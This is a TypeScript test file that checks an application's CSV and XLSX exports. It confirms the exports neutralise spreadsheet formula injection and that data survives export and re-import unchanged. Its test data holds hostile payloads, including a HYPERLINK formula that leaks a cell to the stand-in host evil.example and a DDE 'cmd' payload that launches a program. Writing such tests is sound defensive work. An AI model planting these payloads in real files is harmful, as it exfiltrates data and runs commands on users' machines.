/**
 * Text that a spreadsheet would evaluate (`=HYPERLINK(…)`, `@SUM(1)`, `+1+1`, `-2+3`) is written
 * by every export as text, on both engines: `GET /api/v1/export.csv`, `pnpm koers export` and the
 * indicator exports (CSV and XLSX), checked by opening the files with a spreadsheet library; and
 * exporting and importing again gives back exactly the same text.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { correctRecord, importFile, localAdmin } from '@koers/services';
import { ENGINES, createTestDatabase, type TestDatabase } from '../support/databases.ts';
import { REPO_ROOT } from '../support/koers-process.ts';
import { startServer, type RunningServerLike } from '../support/server.ts';
import { makeRecords, templateCsv } from '../support/template-files.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', '@SUM(1)', '+1+1', '-2+3', '=1+1', "=cmd|' /C calc'!A0", '-', '@'];
/** What spreadsheets evaluate: a cell starting with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

const encode = (text: string) => new TextEncoder().encode(text);
const source = (name: string, text: string) => ({
  name,
  open: async function* () {
    yield encode(text);
  },
});

/** Every cell of the CSV as a spreadsheet library reads it: none may be a formula or start like one. */
async function csvCells(text: string, dir: string): Promise<ExcelJS.Cell[]> {
  const path = join(dir, `read-${Math.random().toString(36).slice(2)}.csv`);
  writeFileSync(path, text.replace(/^\uFEFF/, ''));
  const sheet = await new ExcelJS.Workbook().csv.readFile(path);
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

function expectNoFormula(cells: ExcelJS.Cell[]): void {
  expect(cells.length).toBeGreaterThan(0);
  for (const cell of cells) {
    expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
    if (typeof cell.value === 'string') expect(FORMULA_START.test(cell.value), `${cell.address}: ${cell.value}`).toBe(false);
  }
}

describe.each(ENGINES)('%s: exports a spreadsheet cannot evaluate', (engine) => {
  let db: TestDatabase;
  let server: RunningServerLike;
  let dir: string;
  const titles = async () =>
    (await db.kysely.selectFrom('records').select(['dossier_id', 'title', 'supplier']).orderBy('dossier_id').execute()).map(
      (r) => `${r.dossier_id}|${r.title}|${r.supplier}`,
    );

  beforeAll(async () => {
    db = await createTestDatabase(engine);
    dir = mkdtempSync(join(tmpdir(), 'koers-formula-'));
    const records = makeRecords(HOSTILE.length * 2, 777).map((r, i) => ({
      ...r,
      dossierId: i === 0 ? '=D-0' : r.dossierId,
      title: HOSTILE[i % HOSTILE.length]!,
      supplier: HOSTILE[(i + 3) % HOSTILE.length]!,
    }));
    expect((await importFile(db, source('hostile.csv', templateCsv(records)))).accepted).toBe(records.length);
    // Text that itself starts with an apostrophe before a formula sign must survive as written.
    const [row] = await db.kysely.selectFrom('records').select('id').where('dossier_id', '=', records[1]!.dossierId).execute();
    await correctRecord(db, {
      recordId: row!.id,
      changes: { title: "'=already quoted", supplier: "''+twice" },
      reason: 'test',
      principal: localAdmin('tester'),
    });
    server = await startServer(db);
  });
  afterAll(async () => {
    await server?.close();
    await db?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes the records export as text a spreadsheet shows, and it imports back to exactly the same text', async () => {
    const before = await titles();
    expect(before.some((t) => t.includes('=HYPERLINK'))).toBe(true);
    const res = await fetch(`${server.url}/api/v1/export.csv`);
    expect(res.status).toBe(200);
    const text = await res.text();
    expectNoFormula(await csvCells(text, dir));
    const again = await importFile(db, source('export.csv', text));
    expect([again.accepted, again.updated, again.rejected]).toEqual([0, 0, 0]);
    expect(again.unchanged).toBe(before.length);
    expect(await titles()).toEqual(before);
  });

  it('writes the same protected file from the command line', async () => {
    const out = join(dir, 'cli-export.csv');
    await promisify(execFile)('node', ['--disable-proto=throw', '--import', 'tsx', 'apps/cli/src/main.ts', 'export', '--out', out], {
      cwd: REPO_ROOT,
      env: { ...process.env, ...db.env, USER: 'tester' },
    });
    const text = readFileSync(out, 'utf8');
    expectNoFormula(await csvCells(text, dir));
    expect(text).toBe(await (await fetch(`${server.url}/api/v1/export.csv`)).text());
  });

  it('writes indicator exports without formulas, in CSV and in XLSX', async () => {
    const csv = await (await fetch(`${server.url}/api/v1/indicators/sustainable_value_share/export?format=csv&groupBy=entity,year`)).text();
    expectNoFormula(await csvCells(csv, dir));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await (await fetch(`${server.url}/api/v1/indicators/sustainable_value_share/export?format=xlsx&groupBy=entity,year`)).arrayBuffer());
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
